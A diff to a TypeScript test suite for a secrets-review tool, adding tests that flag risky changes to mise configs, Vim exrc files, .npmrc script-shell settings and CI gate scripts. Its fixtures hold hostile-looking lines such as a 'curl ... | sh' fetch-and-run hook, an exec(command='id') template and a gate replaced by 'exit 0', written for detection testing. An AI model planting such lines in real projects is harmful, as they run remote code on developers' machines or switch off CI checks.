@@ -11,6 +11,7 @@ import { parseEnvironmentFile, parseProjectConfig, WorkspaceIndex } from "../ind
 import { decryptSecrets, encryptSecrets, generateIdentity, reencryptSecrets, rotateDataKey, updateKeys, wrapDataKey } from "@stellar-secrets/sops";
 import { rewrapsOf, sameDataKeyProof } from "./data-key.js";
 import { buildReview } from "./model.js";
+import { EDITOR_SETTINGS_PATHSPECS } from "./editor-settings.js";
 import { nameSkeleton } from "./access.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 import { fingerprint, type EnvironmentReview, type ReviewReport } from "./report.js";
@@ -1776,6 +1777,85 @@ describe("a change to a git hook manager's files (.pre-commit-config.yaml, .husk
     expect(report.problems[1]?.message).toContain("`stellar-secrets pre-commit` among them, may be gone");
     expect(report.problems[3]?.message).toContain("web/.husky/pre-push is new: husky");
     expect(report.clean).toBe(false);
+  });
+});
+
+describe("a mise configuration that runs something when loaded, added or changed", () => {
+  it("is weakened-rule at the file (trust is by path in mise's normal mode); a file of tool versions only, or a removal, is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const editorSettings = [
+      { path: "mise.toml", before: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n', after: '[tools]\nnode = "20"\n[env]\nNODE_ENV = "dev"\n_.source = "./tools/env.sh"\n' },
+      { path: "web/.mise.toml", before: undefined, after: '[hooks]\nenter = "curl -s https://example.invalid/x | sh"\n' },
+      { path: ".config/mise/conf.d/a.toml", before: "", after: 'X = "{{exec(command=\'id\')}}"\n' },
+      { path: ".mise.toml", before: '[tools]\nnode = "20"\n', after: '[tools]\nnode = "22"\n' },
+      { path: "mise.local.toml", before: '[env]\nA = "1"\n', after: undefined },
+      { path: "docs/mise.md", before: "[env]", after: "[env]\nx" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", ".config/mise/conf.d/a.toml"],
+      ["weakened-rule", "mise.toml"],
+      ["weakened-rule", "web/.mise.toml"],
+    ]);
+    expect(report.problems[1]?.message).toMatch(/^mise\.toml changes: mise loads this configuration in its folder and below, and a member who trusted it once keeps trusting it by its path/);
+    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/mise.toml", ":(top,glob)**/.config/mise/conf.d/*.toml"]));
+  });
+});
+
+describe("a Vim exrc file (.exrc, .vimrc, .nvimrc ...) added or changed", () => {
+  it("is weakened-rule at the file (Vim with exrc, and Neovim before 0.9, run it without asking); removed, or Neovim's .nvim.lua (asked again on change), is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const editorSettings = [
+      { path: ".exrc", before: undefined, after: "silent !curl -s https://example.invalid/x | sh\n" },
+      { path: "web/.vimrc", before: "set ts=2\n", after: "set ts=2\nautocmd BufRead * !./tools/x.sh\n" },
+      { path: ".nvimrc", before: "set ts=2\n", after: undefined },
+      { path: ".nvim.lua", before: undefined, after: "vim.fn.system('x')\n" },
+      { path: "docs/exrc.md", before: "a", after: "b" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", ".exrc"],
+      ["weakened-rule", "web/.vimrc"],
+    ]);
+    expect(report.problems[0]?.message).toMatch(/^\.exrc is new: Vim with its exrc option set \(and Neovim before 0\.9\) reads this file/);
+    expect(report.problems[1]?.message).toContain("web/.vimrc changes: ");
+    // git is asked about them in every folder
+    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.exrc", ":(top,glob)**/.vimrc", ":(top,glob)**/.nvimrc"]));
+  });
+});
+
+describe("a change to a package manager's settings a hook's npm/yarn command reads (hookScripts)", () => {
+  it("is weakened-rule at the file, saying it is the package manager's settings, not a script", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const hookScripts = [{ path: "web/.npmrc", before: "a=1\n", after: "script-shell=./x\n", via: ".husky/pre-commit" }];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "web/.npmrc"]]);
+    expect(report.problems[0]?.message).toMatch(/^web\/\.npmrc \(a package manager's settings, read by the npm, yarn, pnpm or bun command the hook runs: .*\) changes, and \.husky\/pre-commit \(husky, a hook script\) runs it/);
+  });
+});
+
+describe("a change to a package manager's settings the CI gate reads (workflows)", () => {
+  it("is weakened-rule at the file, saying what it decides (not that it runs stellar-secrets itself)", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const workflows = [{ path: ".npmrc", before: "a=1\n", after: "script-shell=./tools/sh\n", usesGate: true, via: ".github/workflows/ci.yml" }];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".npmrc"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.npmrc is changed: a package manager's settings, read where the CI gate runs npm, yarn, pnpm or bun to run stellar-secrets \(from \.github\/workflows\/ci\.yml\); npm's script-shell/);
+  });
+});
+
+describe("a change to a gate file reached through a path computed at run time (workflows)", () => {
+  it("says it was matched by the path's literal end", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const workflows = [{ path: "tools/gate", before: "stellar-secrets review\n", after: "exit 0\n", via: ".github/workflows/ci.yml", computed: "tools/gate" }];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "tools/gate"]]);
+    expect(report.problems[0]?.message).toMatch(/^tools\/gate \(run through a path computed at run time that ends in tools\/gate, .*\) is changed; the CI gate runs it \(from \.github\/workflows\/ci\.yml\)/);
   });
 });
 
